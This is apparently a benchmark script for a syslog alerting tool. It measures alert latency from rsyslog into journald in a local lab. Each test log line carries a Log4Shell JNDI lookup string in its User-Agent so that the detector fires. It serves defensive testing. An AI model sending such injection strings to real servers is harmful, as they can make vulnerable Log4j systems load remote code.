"""Alert latency through the whole chain: a line written into the web host's rsyslog until
its alert is readable in journald.

Runs (as root) the lab chain (lwsyslog.lab: web-host and central rsyslogd on 127.0.0.1 with
RELP/TLS, the real lwsyslog-omprog inside a private journald's namespace). A writer sends
access-log lines over one TCP syslog connection into the web host, each from its own client
address with a Log4Shell User-Agent (so every line raises its own single-event alert) and a
unique marker in the path; ``journalctl -f -o json`` inside the namespace reports each alert,
matched by its marker. Prints a Markdown table of p50/p90/p99/max.

    .venv/bin/python bench/bench_latency.py                 # 1,000 alerts at 100 lines/s
    .venv/bin/python bench/bench_latency.py --alerts 3000 --rate 300
"""

from __future__ import annotations

import argparse
import contextlib
import json
import re
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

from lwsyslog import lab

FLOOR_P99_SECS = 1.0


def _client(i: int) -> str:
    """A distinct address per line, so no alert is held back by another's cooldown."""
    return f"10.{i // 64516 % 250}.{i // 254 % 254 + 1}.{i % 254 + 1}"


def _line(run: str, i: int) -> bytes:
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
    return lab.syslog_line(
        f'{_client(i)} - - [{stamp}] "GET /lat-{run}-{i} HTTP/1.1" 200 512 "-" '
        '"${jndi:ldap://198.51.100.9:1389/a}"'
    )


class _Follower:
    """``journalctl -f -o json -t lwsyslog`` in the namespace; notes when each marker shows."""

    def __init__(self, journal: lab.JournalNamespace, run: str) -> None:
        self.seen: dict[int, float] = {}
        self.stamped: dict[int, float] = {}
        """When the program handed each alert to journald (its _SOURCE_REALTIME_TIMESTAMP)."""
        self._pattern = re.compile(rf"/lat-{run}-(\d+) ")
        self._proc = subprocess.Popen(
            journal.journalctl("-f", "-o", "json", "-n", "0", "-t", "lwsyslog"),
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        )
        self._thread = threading.Thread(target=self._read, daemon=True)
        self._thread.start()

    def _read(self) -> None:
        assert self._proc.stdout is not None
        for raw in self._proc.stdout:
            now = time.monotonic()
            try:
                entry = json.loads(raw)
            except ValueError:
                continue
            match = self._pattern.search(str(entry.get("LWSYSLOG_SAMPLE", "")))
            if match:
                index = int(match.group(1))
                self.seen.setdefault(index, now)
                stamp = entry.get("_SOURCE_REALTIME_TIMESTAMP") or entry.get("__REALTIME_TIMESTAMP")
                self.stamped.setdefault(index, int(str(stamp)) / 1e6)

    def stop(self) -> None:
        lab.stop_process(self._proc, 5)


def _percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(share * (len(ordered) - 1)))]


def measure(alerts: int, rate: float, work: Path) -> tuple[list[float], list[float], int]:
    """Latencies in seconds of the alerts that arrived (until readable with ``journalctl -f``,
    and until the program sent them to journald), and how many did not arrive."""
    with lab.JournalNamespace(work / "journal") as journal:
        program = lab.omprog_command(
            # Every line is a new attacker's: storm control (20 alerts of a rule per 10 s, then
            # one summary) would fold most of them; this measures each alert's own way through
            # the chain (bench_storm.py measures storms).
            config=lab.write_lab_config(work / "lwsyslog.toml", "[alerts]\nstorm_max_alerts = 0\n"),
            state_dir=work / "state",
            messages_file=work / "messages",
        )
        with lab.LocalChain(work / "chain", program, journal, apache=False) as chain:
            run = uuid.uuid4().hex[:8]
            follower = _Follower(journal, run)
            sent: dict[int, float] = {}
            sent_wall: dict[int, float] = {}
            try:
                with socket.create_connection(("127.0.0.1", chain.input_port)) as sock:
                    # Warm-up: the program starts, TLS comes up, journalctl follows.
                    warm = 1 << 24  # an index no measured line uses
                    sock.sendall(_line(run, warm))
                    lab.wait_for(lambda: warm in follower.seen, 60, "the warm-up alert")
                    interval = 1.0 / rate
                    start = time.monotonic()
                    for i in range(alerts):
                        due = start + i * interval
                        pause = due - time.monotonic()
                        if pause > 0:
                            time.sleep(pause)
                        sent[i] = time.monotonic()
                        sent_wall[i] = time.time()
                        sock.sendall(_line(run, i))
                    with contextlib.suppress(TimeoutError):
                        lab.wait_for(lambda: all(i in follower.seen for i in sent), 30, "alerts")
            finally:
                follower.stop()
    latencies = [follower.seen[i] - t for i, t in sent.items() if i in follower.seen]
    to_journald = [follower.stamped[i] - t for i, t in sent_wall.items() if i in follower.stamped]
    return latencies, to_journald, alerts - len(latencies)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=1000, help="lines = alerts (default 1000)")
    parser.add_argument("--rate", type=float, default=100.0, help="lines per second (100)")
    args = parser.parse_args()
    reason = lab.missing_requirements(apache=False)
    if reason:
        print(f"bench_latency: {reason}", file=sys.stderr)
        return 2
    with tempfile.TemporaryDirectory(prefix="lwsyslog-latency-") as tmp:
        latencies, to_journald, missing = measure(args.alerts, args.rate, Path(tmp))
    if not latencies:
        print("bench_latency: no alert arrived", file=sys.stderr)
        return 1
    print("| latency until | alerts | rate (lines/s) | arrived | p50 | p90 | p99 | max | mean |")
    print("|---|---:|---:|---:|---:|---:|---:|---:|---:|")
    for label, values in (
        ("readable (`journalctl -f`)", latencies),
        ("sent to journald by the program", to_journald),
    ):
        ms = [v * 1000 for v in values]
        print(f"| {label} | {args.alerts:,} | {args.rate:g} | {len(ms):,} "
              f"| {_percentile(ms, 0.5):.1f} ms | {_percentile(ms, 0.9):.1f} ms "
              f"| {_percentile(ms, 0.99):.1f} ms | {max(ms):.1f} ms "
              f"| {statistics.fmean(ms):.1f} ms |")  # fmt: skip
    ok = missing == 0 and _percentile(latencies, 0.99) < FLOOR_P99_SECS
    lost = f" ({missing} alerts missing)" if missing else ""
    verdict = "met" if ok else "NOT met"
    print(f"\nfloor (every alert arrives, p99 < {FLOOR_P99_SECS:g} s): {verdict}{lost}")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
